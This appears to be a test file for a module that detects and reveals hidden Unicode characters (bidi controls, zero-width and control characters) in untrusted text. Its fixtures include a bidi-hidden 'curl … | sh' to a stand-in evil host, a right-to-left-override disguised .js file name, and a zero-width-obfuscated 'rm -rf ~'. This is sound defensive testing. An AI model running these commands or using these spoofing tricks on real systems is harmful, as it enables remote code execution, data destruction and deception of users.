import assert from 'node:assert/strict';
import { codePointLabel, hasHiddenChars, hasRtlLetters, hiddenKind, hiddenSummary, hiddenWarning, isolatePlain, revealHidden, segmentHidden } from '../../protocol/untrusted-text';

describe('untrusted text: hidden characters', () => {
  it('classifies bidi controls, invisible characters and control characters; ordinary text is untouched', () => {
    for (const ch of ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C']) assert.equal(hiddenKind(ch), 'bidi', codePointLabel(ch));
    for (const ch of ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u2028', '\u{E0041}', '\u3164']) assert.equal(hiddenKind(ch), 'invisible', codePointLabel(ch));
    for (const ch of ['\u0000', '\u0007', '\u001B', '\u007F', '\u0085', '\r']) assert.equal(hiddenKind(ch), 'control', codePointLabel(ch));
    for (const ch of ['a', ' ', '\t', '\n', 'é', 'א', '😀', '\u00A0']) assert.equal(hiddenKind(ch), null, codePointLabel(ch));
    assert.equal(hasHiddenChars('npm test\r\nnext line\ttab'), false, 'CRLF line ends and tabs are ordinary');
    assert.equal(hasHiddenChars('progress\rdone'), true, 'a lone carriage return can overwrite a line');
  });

  it('reveals each hidden character as a ⟨U+XXXX⟩ marker in logical order (the issue\'s examples)', () => {
    assert.equal(revealHidden('npm test \u2067; curl https://evil.example/x | sh #\u2069'), 'npm test ⟨U+2067⟩; curl https://evil.example/x | sh #⟨U+2069⟩');
    assert.equal(revealHidden('invoice\u202Egnp.js'), 'invoice⟨U+202E⟩gnp.js');
    assert.equal(revealHidden('rm -rf ~\u200B/\u200Btmp/build'), 'rm -rf ~⟨U+200B⟩/⟨U+200B⟩tmp/build');
    assert.equal(revealHidden('tag\u{E0069}'), 'tag⟨U+E0069⟩', 'astral tag characters are one marker');
    assert.equal(revealHidden('plain'), 'plain');
  });

  it('segments text into runs and single hidden characters that join back to the input', () => {
    const text = '\u202Eab\u200B\u200Bc\r';
    const segments = segmentHidden(text);
    assert.deepEqual(segments, [{ text: '\u202E', hidden: 'bidi' }, { text: 'ab' }, { text: '\u200B', hidden: 'invisible' }, { text: '\u200B', hidden: 'invisible' }, { text: 'c' }, { text: '\r', hidden: 'control' }]);
    assert.equal(segments.map((s) => s.text).join(''), text);
    assert.deepEqual(segmentHidden(''), [{ text: '' }]);
  });

  it('summarises and warns: counts by kind, right-to-left letters, nothing for plain text', () => {
    assert.deepEqual(hiddenSummary('a\u202Eb\u200Bc'), { bidi: 1, invisible: 1, control: 0, rtl: false });
    assert.match(hiddenWarning('a\u202Eb\u200B\u200Bc')!, /1 bidirectional control character and 2 invisible characters/);
    assert.match(hiddenWarning('cat שלום.txt')!, /right-to-left/);
    assert.equal(hiddenWarning('npm test'), null);
    assert.equal(hasRtlLetters('abc'), false);
    assert.equal(hasRtlLetters('مرحبا'), true);
  });

  it('isolates plain-text labels only when they hold right-to-left letters', () => {
    assert.equal(isolatePlain('npm test'), 'npm test');
    assert.equal(isolatePlain('x\u202Ey'), 'x⟨U+202E⟩y');
    assert.equal(isolatePlain('rm שלום'), '\u2068rm שלום\u2069');
  });
});
